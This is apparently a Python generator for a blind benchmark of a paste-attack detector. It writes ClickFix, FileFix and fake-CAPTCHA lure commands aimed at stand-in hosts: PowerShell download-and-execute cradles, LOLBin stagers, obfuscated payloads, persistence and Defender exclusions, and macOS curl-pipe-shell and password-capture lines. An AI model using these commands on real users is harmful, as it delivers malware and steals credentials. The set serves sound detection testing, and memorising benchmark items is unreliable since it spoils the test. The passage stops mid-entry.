"""BLIND-20: the twentieth blind set (bench/blind/README.md, "Blind-20"), written without reading
the detector (its rules, LOLBin catalogue, trust list, app/detection/ beyond the PasteTarget values,
the case files or any other set's texts).

Lures are our own texts in the shapes public threat reports describe (2024-2026 ClickFix, FileFix,
fake CAPTCHA/error/meeting pages, CrashFix, DNS staging, cache smuggling, macOS and Linux stagers,
browser-console scams, ConsentFix, device-code phishing, tech-support and callback scams in many
languages), on reserved names only. The benign side is what people paste: installers copied from
their own project's page (real projects' documented install lines, found in public README files;
none of them in sets 1-19) and everyday admin, developer and office texts.

Run: python bench/blind/make_blind20.py  (writes lures-20.jsonl and benign-20.jsonl beside it)
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import blindkit as kit
from blindkit import CON, EMSP, EXP, NBSP, OWN, RUN, TERM, UNK

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-20.jsonl"
BENIGN_OUT = HERE / "benign-20.jsonl"
PREFIX = "blind20"

L = kit.Lures()

# ----------------------------------------------------------------------------------------------
# Pages that write the lures: lookalikes of real services and compromised ordinary sites
# ----------------------------------------------------------------------------------------------

CF = "https://cloudfIare-turnstile-gate.test/cdn-cgi/challenge-platform/h/b"
CF2 = "https://dash-cloudflare-verify.example/challenge?ray=8f31c07a9be2"
GCAP = "https://recaptcha-gstatic-check.invalid/v3/anchor"
MEET = "https://gmeet-room-launch.test/hzk-qowp-tra"
TEAMS = "https://teams-live-microsoft.example/l/meetup-join/19%3ameeting"
ZOOM = "https://zoom-us-webinar-launch.invalid/j/88214075531"
BOOK = "https://admin-booking-extranet.test/hotel/reviews/guest-complaint"
BOOK2 = "https://booking-partner-hub.example/messages/reservation-4412986"
MS = "https://microsoft365-account-verify.invalid/officehome/signin"
MSERR = "https://outlook-office-repair.test/error/0x80190001"
ODRIVE = "https://onedrive-shared-files.example/personal/finance/Documents"
SPOINT = "https://sharepoint-docs-portal.invalid/sites/HR/Shared%20Documents"
DOCU = "https://docusign-envelope-review.test/signing/8f2a4c"
DISC = "https://discord-verify-guard.example/server/verification"
STEAM = "https://steamcommunity-tradeoffer.invalid/tradeoffer/new"
CHROME = "https://chrome-update-center.test/download/recovery"
CRASH = "https://browser-crash-recovery.example/nexshield/recover"
GITHUB = "https://github-security-alerts.invalid/advisory/GHSA-7q2r-verify"
BREW = "https://brew-sh-install.test/"
APPLE = "https://support-apple-macos.example/verify/gatekeeper"
ICLOUD = "https://icloud-quota-exceeded.invalid/restore"
CHATGPT = "https://chatgpt-shared-guide.test/share/6f1e2d"
DRIVER = "https://nvidia-driver-fix.example/linux/550"
PAYPAL = "https://paypal-resolution-center.invalid/dispute/PP-D-48221"
DHL = "https://dhl-parcel-redelivery.test/track/JD0146000"
WP1 = "https://lakeside-bakery.test/menu/seasonal"
WP2 = "https://alpine-hut-rentals.example/booking/availability"
WP3 = "https://riverbend-dental.invalid/patients/new"
WP4 = "https://mosaic-tile-outlet.test/catalog/terracotta"
WP5 = "https://harborview-marina.example/slips/rates"
WP6 = "https://northfield-choir.invalid/concerts/2026"
WP7 = "https://thistle-yarn-co.test/patterns/free"
WP8 = "https://copperpot-recipes.example/soups/lentil"
WP9 = "https://greenline-bikeshop.invalid/service/booking"
WP10 = "https://oakridge-realty.test/listings/elm-street"
JOB = "https://careers-linkedin-apply.example/jobs/view/402217"
ADOBE = "https://adobe-acrobat-viewer.invalid/doc/view?id=INV-3309"
WETRANSFER = "https://wetransfer-download-files.test/downloads/b7f1c0"
CALENDLY = "https://calendly-invite-meet.example/interview/round-2"
ROBLOX = "https://roblox-free-items.invalid/claim"
FACEBOOK = "https://facebook-page-appeal.test/help/appeal/7712"
NOTION = "https://notion-workspace-invite.example/join/acme"
IRS = "https://irs-refund-status.invalid/verify"
AIRBNB = "https://airbnb-host-resolution.test/hosting/messages"
TIKTOK = "https://tiktok-creator-verify.example/badge"
INDEED = "https://indeed-assessment-portal.invalid/test/start"

ROBOT = "# \u2705 I am not a robot - reCAPTCHA Verification ID: "
HUMAN = "# Verify you are human - Cloudflare Ray ID: "


def pad(n: int = 80, ch: str = " ") -> str:
    return ch * n


# ----------------------------------------------------------------------------------------------
# A. Run dialog: PowerShell cradles from fake CAPTCHA / error / meeting pages
# ----------------------------------------------------------------------------------------------

L.lure(
    "ps-cradle-run",
    RUN,
    CF,
    f'powershell -w h -nop -c "iex (irm https://qelvar-cdn.test/v/7d1)"{pad(60)}{ROBOT}58213',
)
L.lure(
    "ps-cradle-run",
    RUN,
    CF2,
    "powershell -NoP -W Hidden -EP Bypass -c \"$u='https://brastow-edge.example/s.ps1';"
    'iex ((New-Object Net.WebClient).DownloadString($u))"   ' + HUMAN + "8f31c07a9be2",
)
L.lure(
    "ps-cradle-run",
    RUN,
    GCAP,
    'pwsh -nop -c "irm https://ventrolo.invalid/check | iex"'
    + pad(45, NBSP)
    + "# I'm not a robot \u2714 ID 4471-AX",
)
L.lure(
    "ps-cradle-run",
    RUN,
    MEET,
    'powershell -c "iwr https://meetfix-audio.test/drv.zip -OutFile $env:TEMP\\drv.zip; '
    'Expand-Archive $env:TEMP\\drv.zip $env:TEMP\\drv -Force; & $env:TEMP\\drv\\AudioFix.exe"'
    " # Google Meet microphone repair",
)
L.lure(
    "ps-cradle-run",
    RUN,
    TEAMS,
    'powershell -w 1 -c "Start-BitsTransfer -Source https://kormeth-files.example/tcodec.exe '
    '-Destination $env:APPDATA\\tcodec.exe; saps $env:APPDATA\\tcodec.exe"  # Teams codec update',
)
L.lure(
    "ps-cradle-run",
    RUN,
    ZOOM,
    'powershell -ExecutionPolicy Bypass -Command "$r=Invoke-WebRequest -Uri '
    'https://zanvello-cdn.invalid/zfix -UseBasicParsing; iex $r.Content" # Zoom audio driver',
)
L.lure(
    "ps-cradle-run",
    RUN,
    BOOK,
    'cmd /c start /min powershell -w h -c "irm https://guestreply-portal.test/r/9931 | iex"'
    "   :: Booking.com guest complaint viewer",
)
L.lure(
    "ps-cradle-run",
    RUN,
    MS,
    "powershell -ep bypass -c \"[Net.ServicePointManager]::SecurityProtocol='Tls12';"
    "$c=New-Object System.Net.Http.HttpClient;iex $c.GetStringAsync('https://oxlade-sync.example/m').Result\""
    + pad(50)
    + "# Microsoft 365 sign-in verification",
)
L.lure(
    "ps-cradle-run",
    RUN,
    MSERR,
    "powershell IEX ((Invoke-RestMethod -Uri https://trelvo-api.invalid/v2/fix -Method GET).data.script)"
    "  # Outlook error 0x80190001 repair",
)
L.lure(
    "ps-cradle-run",
    RUN,
    DOCU,
    'powershell -w h -c "$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;'
    "$i.InstallProduct('https://quorinth-docs.test/viewer.msi','')\"  # DocuSign secure viewer",
)
L.lure(
    "ps-cradle-run",
    RUN,
    WP1,
    "powershell -c \"$x=New-Object -Com Msxml2.XMLHTTP;$x.open('GET','https://palvern-static.example/a',0);"
    '$x.send();iex $x.responseText"' + pad(70) + ROBOT + "30087",
)
L.lure(
    "ps-cradle-run",
    RUN,
    WP2,
    "powershell -w h -c \"iex ((Resolve-DnsName -Type TXT boot.mirravel.invalid).Strings -join '')\""
    + pad(40)
    + HUMAN
    + "7a2c91d04e",
)
L.lure("ps-cradle-run", RUN, WP3, 'powershell -c "irm dellqor.test/t|iex"   ' + ROBOT + "11902")
L.lure(
    "ps-cradle-run",
    RUN,
    WP4,
    "powershell -e "
    + kit.b64_utf16("iex (iwr 'https://sembrook-cdn.example/p2' -UseBasicParsing).Content")
    + "  # captcha ok",
)
L.lure(
    "ps-cradle-run",
    RUN,
    WP5,
    'powershell -nop -w hidden -c "iwr http://'
    + str(kit.ip_int("198.51.100.253"))
    + '/k.ps1 -UseB | iex" # verification step 2 of 3',
)
L.lure(
    "ps-cradle-run",
    RUN,
    WP6,
    "powershell -w h -c \"irm https://cantrevo.invalid/a | iex; Set-Clipboard -Value ' '\""
    + pad(55)
    + "# \u2611 Human check passed",
)
L.lure(
    "ps-cradle-run",
    RUN,
    WP7,
    'powershell.exe -WindowStyle Hidden -Command "& ([scriptblock]::Create((irm https://yarnpath-cdn.test/s)))"'
    " # Press Enter to finish verification",
)
L.lure(
    "ps-cradle-run",
    RUN,
    CHROME,
    'powershell -c "iwr https://chromefix-dl.example/ChromeRecovery.exe -o $env:LOCALAPPDATA\\cr.exe; '
    '& $env:LOCALAPPDATA\\cr.exe /silent" # Chrome update error 0x80040902',
)
L.lure(
    "ps-cradle-run",
    RUN,
    JOB,
    "powershell -w h -c \"iex(New-Object Net.WebClient).DownloadString('https://hirelane-assess.invalid/cam')\""
    " # Fix camera access for your video interview",
)
L.lure(
    "ps-cradle-run",
    RUN,
    CALENDLY,
    'powershell -NoProfile -c "$p="$env:TEMP\\meet.ps1";iwr https://ostrava-meet.test/m.ps1 -OutFile $p;'
    ' powershell -ep bypass -f $p" # interview room audio check',
)
L.lure(
    "ps-cradle-run",
    RUN,
    ADOBE,
    'powershell -w h -c "Add-Type -A System.IO.Compression.FileSystem;iwr https://pdfrend-cdn.example/r.zip -o $env:TEMP\\r.zip;'
    '[IO.Compression.ZipFile]::ExtractToDirectory("$env:TEMP\\r.zip","$env:TEMP\\r");saps $env:TEMP\\r\\AcroFix.exe"'
    " # install PDF font pack",
)
L.lure(
    "ps-cradle-run",
    RUN,
    WETRANSFER,
    "powershell -c \"$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','PowerShell');"
    "$w.DownloadString('https://filenest-relay.invalid/d') | iex\" # unlock your transfer",
)
L.lure(
    "ps-cradle-run",
    RUN,
    NOTION,
    'powershell -w h -c "$d=(irm https://brevik-ws.test/api/cfg).payload;'
    'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))" # workspace invite check',
)
L.lure(
    "ps-cradle-run",
    RUN,
    IRS,
    'powershell -c "iwr -useb https://taxrefund-verify.example/id.ps1 | iex" # Identity verification for refund',
)
L.lure(
    "ps-cradle-run",
    RUN,
    TIKTOK,
    "powershell -w h -c \"iex(irm 'https://creatorbadge-cdn.invalid/b')\""
    + pad(64)
    + "# verified creator badge activation",
)

# Steganography and cache smuggling: no URL in the command, or an image as the carrier
L.lure(
    "ps-stego-run",
    RUN,
    WP8,
    'powershell -w h -c "$b=[Drawing.Bitmap]::FromStream((iwr https://copperimg.test/logo.png).RawContentStream);'
    "$o=foreach($y in 0..($b.Height-1)){foreach($x in 0..($b.Width-1)){$b.GetPixel($x,$y).R}};"
    'iex ([Text.Encoding]::ASCII.GetString($o).Trim([char]0))"' + pad(40) + ROBOT + "66310",
)
L.lure(
    "ps-cache-smuggle",
    RUN,
    WP9,
    'powershell -w h -c "$c="$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data";'
    "foreach($f in gci $c){$t=[IO.File]::ReadAllText($f.FullName);if($t -match 'BOBJ(.+?)EOBJ'){"
    'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($matches[1])));break}}"'
    + pad(50)
    + "# Cloudflare check complete",
)
L.lure(
    "ps-cache-smuggle",
    EXP,
    SPOINT,
    'powershell -w h -c "$d="$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data";'
    "gci $d|%{$b=[IO.File]::ReadAllBytes($_.FullName);$s=[Text.Encoding]::Default.GetString($b);"
    "$i=$s.IndexOf('<<PK>>');if($i -ge 0){[IO.File]::WriteAllBytes(\\\"$env:TEMP\\u.zip\\\",$b[($i+6)..($b.Length-1)]);"
    'Expand-Archive $env:TEMP\\u.zip $env:TEMP\\u -Force;saps $env:TEMP\\u\\client.exe}}"'
    + pad(90)
    + "# C:\\Users\\Public\\HR\\Salary_Review_2026.xlsx",
)

# ----------------------------------------------------------------------------------------------
# B. Run dialog: cmd and living-off-the-land staging
# ----------------------------------------------------------------------------------------------

L.lure(
    "lolbin-mshta", RUN, CF, "mshta https://kessvane.example/verify.hta" + pad(50) + ROBOT + "72019"
)
L.lure(
    "lolbin-mshta",
    RUN,
    WP10,
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h iwr https://lorrent-cdn.invalid/a|iex"",0:close")',
)
L.lure(
    "lolbin-mshta",
    RUN,
    STEAM,
    "mshta http://203.0.0x71.246/trade/confirm   # Steam Guard mobile confirm",
)
L.lure(
    "lolbin-mshta",
    RUN,
    GCAP,
    '"C:\\Windows\\System32\\mshta.exe" https://quillmoss.test/c/hta#   ' + ROBOT + "90114",
)
L.lure(
    "lolbin-msiexec",
    RUN,
    BOOK2,
    "msiexec /i https://resvault-cdn.test/guestview/ReservationViewer.msi /qn  # Booking message attachment",
)
L.lure(
    "lolbin-msiexec",
    RUN,
    CF2,
    '"C:\\WINDOWS\\system32\\MsIeXeC.ExE" -PaCkaGe http:\\\\tarnwell.invalid\\cf\\..\\id\\..\\55120 /q',
)
L.lure(
    "lolbin-msiexec",
    RUN,
    WP1,
    "msiexec /q /package https://dovrel-mirror.example/captcha/validate.msi"
    + pad(40)
    + HUMAN
    + "2e71ba",
)
L.lure(
    "lolbin-rundll32",
    RUN,
    WP2,
    "rundll32 \\\\vantrope.test@SSL\\dav\\check.dll,Verify" + pad(30) + "# human verification",
)
L.lure(
    "lolbin-rundll32",
    RUN,
    MS,
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://ellsmere-cdn.invalid/r.sct")',
)
L.lure(
    "lolbin-regsvr32",
    RUN,
    WP3,
    "regsvr32 /s /n /u /i:https://brollin.example/x.sct scrobj.dll   " + ROBOT + "44805",
)
L.lure(
    "lolbin-regsvr32",
    RUN,
    CF,
    "cmd.exe /c cmdkey /add:192.0.2.254 /user:guest && start regsvr32 /s \\\\192.0.2.254\\pub\\verify.dll & REM I am not a robot - ID d41c",
)
L.lure(
    "lolbin-certutil",
    RUN,
    WP4,
    "certutil -urlcache -split -f https://hemvale.test/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"
    + pad(30)
    + HUMAN
    + "55ac0",
)
L.lure(
    "lolbin-certutil",
    RUN,
    WP5,
    'cmd /c certutil -f -urlcache https://skarloe.invalid/c.txt %TMP%\\c.b64 & certutil -decode %TMP%\\c.b64 %TMP%\\c.exe & start "" %TMP%\\c.exe',
)
L.lure(
    "lolbin-bitsadmin",
    RUN,
    WP6,
    "bitsadmin /transfer upd /download /priority high https://grantley-upd.example/b.exe %PUBLIC%\\b.exe & start %PUBLIC%\\b.exe",
)
L.lure(
    "lolbin-finger",
    RUN,
    CF,
    'cmd /c "finger gate@vorrick.test | cmd"' + pad(40) + "# \u2705 Verify you are human",
)
L.lure(
    "lolbin-finger",
    RUN,
    WP7,
    '%COMSPEC% /k s^t^a^r^t "" /min for /f "skip=7 delims=" %x in (\'f^^i^^n^^g^^e^^r hx2Lq@ostrelle.example\') do call %x & exit',
)
L.lure(
    "lolbin-finger",
    RUN,
    CRASH,
    "cmd /c copy %windir%\\system32\\finger.exe %temp%\\ct.exe & %temp%\\ct.exe rec@nexrec.invalid | cmd  # restore browser session",
)
L.lure(
    "lolbin-nslookup",
    RUN,
    WP8,
    'cmd /c "for /f "tokens=1,* delims=:" %a in (\'nslookup -type=TXT cfg.pellory.test 203.0.113.245 ^| findstr /i "text"\') do %b"',
)
L.lure(
    "lolbin-nslookup",
    RUN,
    CF2,
    'cmd /c nslookup -q=txt stage.branholt.example 198.51.100.249 | findstr "=" > %temp%\\s.cmd & %temp%\\s.cmd'
    + pad(40)
    + HUMAN
    + "91c2aa",
)
L.lure(
    "lolbin-nslookup",
    RUN,
    CRASH,
    'powershell -w h -c "$r=(nslookup -q=txt rec.kaltrin.invalid 192.0.2.147)[-1];iex $r.Trim().Trim([char]34)"  # NexShield recovery',
)
L.lure(
    "lolbin-syncappv",
    RUN,
    WP9,
    'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n; iwr https://morvane.test/s | iex"'
    + pad(30)
    + ROBOT
    + "10442",
)
L.lure(
    "lolbin-syncappv",
    RUN,
    MEET,
    "SyncAppvPublishingServer.vbs \"Break; Start-Process powershell -Args '-w h -c irm https://teleaudio-cdn.example/f|iex'\" # fix Meet audio",
)
L.lure(
    "lolbin-conhost",
    RUN,
    WP10,
    'conhost.exe --headless powershell -w h -c "irm https://slatebrook.invalid/h | iex"',
)
L.lure(
    "lolbin-conhost",
    RUN,
    CF,
    '"C:\\WINDOWS\\system32\\conhost.exe" --headless cmd /c "md %LOCALAPPDATA%\\Temp\\q & curl -skLo %LOCALAPPDATA%\\Temp\\q\\t https://farrowgate.test/d & pushd %LOCALAPPDATA%\\Temp\\q & tar xf t & del t & rundll32 endpoint.dll,#2"',
)
L.lure(
    "lolbin-webdav",
    RUN,
    SPOINT,
    "cmd /c net use Q: https://quarrel-dav.example/dav /persistent:no && Q:\\update.cmd & net use Q: /delete /y",
)
L.lure(
    "lolbin-webdav",
    RUN,
    ODRIVE,
    "pushd \\\\wenlock-share.invalid@SSL@443\\DavWWWRoot\\docs & start ViewDocument.exe & popd",
)
L.lure(
    "lolbin-webdav",
    RUN,
    WP1,
    'cmd /v /c "pushd \\\\198.51.100.252@SSL\\s & rundll32 gc.key,#1"' + pad(40) + ROBOT + "30771",
)
L.lure("lolbin-pcalua", RUN, WP2, 'pcalua.exe -a "\\\\tessaly-files.test\\public\\Verify.exe"')
L.lure(
    "lolbin-forfiles",
    RUN,
    WP3,
    'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c curl -so %tmp%\\n.exe https://dunmore-cdn.example/n & %tmp%\\n.exe"',
)
L.lure(
    "lolbin-wmic",
    RUN,
    WP4,
    'wmic process call create "powershell -w h -c iwr https://kelbrook.invalid/w | iex"  # verification',
)
L.lure(
    "lolbin-curl-vbs",
    RUN,
    WP5,
    'cmd /c "curl -s http://ravensfold.test:5512/qk.vbs -o %temp%\\qk.vbs >nul && wscript.exe //B //E:VBScript %temp%\\qk.vbs"',
)
L.lure(
    "lolbin-echo-vbs",
    RUN,
    WP6,
    'cmd /c echo Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","https://olvenport.example/p",0:h.Send:'
    'Set s=CreateObject("ADODB.Stream"):s.Type=1:s.Open:s.Write h.responseBody:s.SaveToFile "%temp%\\p.exe",2 > %temp%\\g.vbs & cscript //nologo %temp%\\g.vbs & %temp%\\p.exe',
)
L.lure(
    "lolbin-schtasks",
    RUN,
    WP7,
    'schtasks /create /tn "EdgeUpdateTaskCore" /tr "mshta https://caddrel.invalid/t" /sc minute /mo 20 /f',
)
L.lure(
    "lolbin-cscript",
    RUN,
    WP8,
    "cscript //E:jscript \\\\brackwater.test\\s\\check.txt   # captcha step",
)
L.lure("lolbin-odbcconf", RUN, WP9, "odbcconf /a {REGSVR \\\\198.51.100.248\\d\\v.dll}")
L.lure(
    "lolbin-appinstaller",
    RUN,
    TEAMS,
    "ms-appinstaller:?source=https://teamsaddin-dl.example/TeamsAudio.appinstaller",
)
L.lure(
    "lolbin-search-ms",
    EXP,
    ADOBE,
    "search-ms:query=Invoice_3309&crumb=location:\\\\vellacor.invalid@SSL\\DavWWWRoot&displayname=Invoice",
)
L.lure(
    "lolbin-curl-start",
    RUN,
    WP10,
    'cmd /c curl -k -o %LOCALAPPDATA%\\svchelper.exe https://tamworth-svc.test/svc && start "" %LOCALAPPDATA%\\svchelper.exe',
)
L.lure(
    "lolbin-setcall",
    RUN,
    CF2,
    'cmd /v /c "set a=msh&& set b=ta&& call !a!!b! https://gorsedd.example/m"'
    + pad(40)
    + HUMAN
    + "0c7e5d",
)
L.lure("lolbin-explorer-share", RUN, WP1, "explorer.exe \\\\203.0.113.252\\docs\\Statement.exe")
L.lure(
    "lolbin-msbuild",
    RUN,
    WP2,
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe \\\\holmfirth.invalid\\b\\verify.csproj",
)
L.lure("lolbin-hh", RUN, WP3, "hh.exe https://caerleon-help.test/guide.chm   " + ROBOT + "81533")
L.lure("lolbin-cmstp", RUN, WP4, "cmstp.exe /s /ns \\\\ashwell-dav.example\\c\\vpn.inf")
L.lure(
    "lolbin-replace-run",
    RUN,
    BOOK,
    'cmd /c curl -sLo "%USERPROFILE%\\Downloads\\Guest_Photos.scr" https://hollin-img.invalid/p && "%USERPROFILE%\\Downloads\\Guest_Photos.scr"',
)
L.lure(
    "lolbin-python-win",
    RUN,
    WP5,
    "cmd /c python -c \"import urllib.request as r;exec(r.urlopen('https://sorrel-py.test/w').read())\"",
)

# ----------------------------------------------------------------------------------------------
# C. FileFix: Explorer's address bar (and the file-upload dialog), the command padded out of view
# ----------------------------------------------------------------------------------------------

FILEFIX = [
    (
        ODRIVE,
        'powershell -w h -c "iwr https://plessor-cdn.test/f | iex"',
        " ",
        90,
        "C:\\Users\\Public\\Finance\\Q4_Invoice_Summary.pdf",
    ),
    (
        SPOINT,
        'Powershell.exe -c "irm https://ambleside-sync.example/hr | iex"',
        NBSP,
        70,
        "C:\\company\\internal-secure\\filedrive\\HRPolicy.docx",
    ),
    (
        DOCU,
        "powershell -nop -ep bypass -c \"$w=New-Object Net.WebClient;$w.DownloadString('https://sigvault.invalid/e')|iex\"",
        EMSP,
        60,
        "\\\\fileserver\\contracts\\Signed_Agreement_0417.pdf",
    ),
    (
        WETRANSFER,
        "mshta https://transfpick.test/open.hta",
        " ",
        110,
        "C:\\Users\\Public\\Downloads\\Project_Files_2026.zip",
    ),
    (
        ADOBE,
        'cmd /c "curl -s https://acrofont.example/f.bat -o %temp%\\f.bat && %temp%\\f.bat"',
        " ",
        80,
        "C:\\Documents\\Invoice_3309.pdf",
    ),
    (
        BOOK2,
        'powershell -w h -c "irm https://guestfiles-rel.invalid/g|iex"',
        NBSP,
        85,
        "C:\\Booking\\Guest_Complaint_Photos\\IMG_2041.jpg",
    ),
    (
        MS,
        '"powershell.exe" -ep Bypass -w H -c "schtasks /delete /tn Updater /f; $w=New-Object System.Net.WebClient; $w.DownloadString(\'http://203.0.113.246/u\') | iex"',
        " ",
        75,
        "C:\\OneDrive\\Shared\\Payroll_March.xlsx",
    ),
    (
        CF,
        'conhost --headless powershell -c "iex(irm https://rookfield-cf.test/x)"',
        " ",
        95,
        "C:\\Cloudflare\\Verification\\ray-id-8f31c07a.txt",
    ),
    (
        SPOINT,
        "cmd /c finger acct@tolverne.example | cmd",
        EMSP,
        64,
        "\\\\sharepoint\\HR\\Benefits_Enrollment_2026.docx",
    ),
    (
        ODRIVE,
        'powershell -c "$p="$env:TEMP\\v.msi";iwr https://carrowmere.invalid/v.msi -o $p;msiexec /i $p /qn"',
        " ",
        100,
        "C:\\Users\\Shared\\Board_Minutes_Nov.pdf",
    ),
    (
        WP6,
        'pwsh -w h -c "irm https://choirnotes-cdn.test/s|iex"',
        " ",
        80,
        "C:\\Users\\Public\\Music\\Rehearsal_Schedule.pdf",
    ),
    (
        JOB,
        'powershell -w h -c "iwr https://jobpack-files.example/cv.exe -o $env:TEMP\\cv.exe; & $env:TEMP\\cv.exe"',
        NBSP,
        90,
        "C:\\Recruiting\\Candidate_Brief_SeniorAnalyst.docx",
    ),
    (
        DOCU,
        "rundll32 \\\\pellmore-dav.invalid@SSL\\s\\doc.dll,Open",
        " ",
        70,
        "C:\\DocuSign\\Envelope_8f2a4c\\Agreement.pdf",
    ),
    (
        MSERR,
        'powershell -c "Resolve-DnsName -Type TXT p.granwick.test | % Strings | iex"',
        " ",
        88,
        "C:\\Windows\\Logs\\Outlook_Repair_Report.log",
    ),
    (
        CALENDLY,
        'cmd /c "nslookup -q=txt m.yelverton.example 192.0.2.251 | findstr \\"=\\" > %tmp%\\m.cmd & %tmp%\\m.cmd"',
        " ",
        72,
        "C:\\Interviews\\Round2_Brief.pdf",
    ),
    (
        WP9,
        "msiexec /i https://spokewell.invalid/servicebook.msi /qn",
        EMSP,
        55,
        "C:\\Users\\Public\\Documents\\Service_Booking_Form.pdf",
    ),
    (
        FACEBOOK,
        'powershell -w h -c "iex (irm https://pageappeal-docs.test/a)"',
        " ",
        120,
        "C:\\Meta\\Business\\Appeal_Evidence_7712.pdf",
    ),
    (
        AIRBNB,
        'powershell -w h -c "irm https://hostcase-files.example/c | iex"',
        NBSP,
        66,
        "C:\\Airbnb\\Resolution\\Damage_Photos.zip",
    ),
]
for page, cmd, ch, n, path in FILEFIX:
    L.lure("filefix-explorer", EXP, page, cmd + pad(n, ch) + "# " + path)
# a FileFix whose visible part is a path with no comment sign, after a line of spaces
L.lure(
    "filefix-explorer",
    EXP,
    ODRIVE,
    'powershell -w h -c "irm https://doclink-relay.invalid/o|iex";'
    + pad(100)
    + "::C:\\Finance\\Remittance_Advice.pdf",
)
L.lure(
    "filefix-upload-dialog",
    EXP,
    WETRANSFER,
    'powershell -c "iwr https://uplift-sync.test/u|iex"'
    + pad(90)
    + "# C:\\Users\\you\\Desktop\\upload_here.txt",
)

# ----------------------------------------------------------------------------------------------
# D. Windows Terminal (Win+X, I): the Run-dialog controls bypassed
# ----------------------------------------------------------------------------------------------

L.lure(
    "winterm-hex",
    TERM,
    CF,
    "$h='" + kit.hex_str("iex (irm https://hexvale-cdn.example/t)") + "';"
    "iex (-join ($h -split '(..)' | ? {$_} | % {[char][Convert]::ToByte($_,16)}))",
)
L.lure(
    "winterm-xor",
    TERM,
    MSERR,
    "$k=0x2f;$b=[Convert]::FromBase64String('"
    + kit.xor_b64("iwr https://xorlane.invalid/w | iex", 0x2F)
    + "');"
    "iex (-join ($b | % {[char]($_ -bxor $k)}))",
)
L.lure(
    "winterm-cradle",
    TERM,
    TEAMS,
    "irm https://teamsfix-cdn.test/repair.ps1 | iex  # Teams repair tool (run in Terminal as admin)",
)
L.lure(
    "winterm-cradle",
    TERM,
    CRASH,
    "Start-Process powershell -Verb RunAs -ArgumentList '-w h -c irm https://nexshield-rec.example/r|iex'",
)
L.lure(
    "winterm-cradle",
    TERM,
    MEET,
    "$ProgressPreference='SilentlyContinue'; iwr https://meetcam-drv.invalid/cam.exe -OutFile $env:TEMP\\cam.exe; Start-Process $env:TEMP\\cam.exe -WindowStyle Hidden",
)
L.lure(
    "winterm-defender",
    TERM,
    MSERR,
    "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://outlookfix-dl.test/o.exe -o $env:APPDATA\\o.exe; & $env:APPDATA\\o.exe",
)
L.lure(
    "winterm-persist",
    TERM,
    CHROME,
    'iwr https://chromerec.example/u.ps1 -o $env:APPDATA\\u.ps1; New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name ChromeUpd -Value "powershell -w h -f $env:APPDATA\\u.ps1" -Force',
)
L.lure(
    "winterm-deflate",
    TERM,
    GCAP,
    "iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
    + kit.deflate_b64("iex (irm https://defl8-cdn.invalid/d)")
    + "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
)

# ----------------------------------------------------------------------------------------------
# E. macOS Terminal lures
# ----------------------------------------------------------------------------------------------

L.lure(
    "macos-curl-bash",
    TERM,
    GITHUB,
    "curl -fsSL https://gh-advisory-fix.test/verify.sh | bash  # GitHub security verification for macOS",
    platform="macos",
)
L.lure(
    "macos-homebrew-lookalike",
    TERM,
    BREW,
    '/bin/bash -c "$(curl -fsSL https://brewsh-install.example/install.sh)"',
    platform="macos",
)
L.lure(
    "macos-b64-zsh",
    TERM,
    APPLE,
    "echo '" + kit.b64("curl -s https://gatekeep-fix.invalid/p | zsh") + "' | base64 -D | zsh",
    platform="macos",
)
L.lure(
    "macos-osascript",
    TERM,
    ICLOUD,
    "osascript -e 'do shell script \"curl -s https://icloudrest.test/a | sh\"'",
    platform="macos",
)
L.lure(
    "macos-xattr",
    TERM,
    APPLE,
    "curl -so /tmp/MacUpdate https://osupd-cdn.example/u && xattr -c /tmp/MacUpdate && chmod +x /tmp/MacUpdate && /tmp/MacUpdate",
    platform="macos",
)
L.lure(
    "macos-applescript",
    TERM,
    CF,
    'curl -k -s --max-time 30 -H "User-Agent: Mozilla/5.0" "https://scriptpane.invalid/debug/p.applescript?build=a91c" | osascript',
    platform="macos",
)
L.lure(
    "macos-dmg",
    TERM,
    ZOOM,
    "cd /tmp && curl -sO https://zoomplug-dl.test/ZoomAudio.dmg && hdiutil attach -nobrowse ZoomAudio.dmg && cp -R /Volumes/ZoomAudio/ZoomAudio.app /Applications/ && xattr -dr com.apple.quarantine /Applications/ZoomAudio.app && open /Applications/ZoomAudio.app",
    platform="macos",
)
L.lure(
    "macos-nohup",
    TERM,
    CHATGPT,
    'nohup bash -c "$(curl -fsSL https://artifact-helper.example/agent)" >/dev/null 2>&1 &  # enable ChatGPT desktop helper',
    platform="macos",
)
L.lure(
    "macos-env-prefix",
    TERM,
    GITHUB,
    'export BUILD_ID=v3.18.2 export _ix=f04a9d curl -fsS "https://devcert-mirror.invalid/curl/q7x/setup.sh" | zsh',
    platform="macos",
)
L.lure(
    "macos-gunzip",
    TERM,
    APPLE,
    "echo '"
    + kit.gzip_b64("curl -s https://amosvar.test/b | bash")
    + "' | base64 -D | gunzip | sh",
    platform="macos",
)
L.lure(
    "macos-dscl",
    TERM,
    ICLOUD,
    'read -s -p "Password: " P; dscl . -authonly "$USER" "$P" && echo "$P" | sudo -S sh -c "curl -s https://icloudstore-fix.example/r | sh"',
    platform="macos",
)
L.lure(
    "macos-launchagent",
    TERM,
    CHROME,
    "curl -so ~/Library/LaunchAgents/com.chrome.update.plist https://chromeagent.invalid/p && launchctl load -w ~/Library/LaunchAgents/com.chrome.update.plist",
    platform="macos",
)
L.lure(
    "macos-python",
    TERM,
    DRIVER,
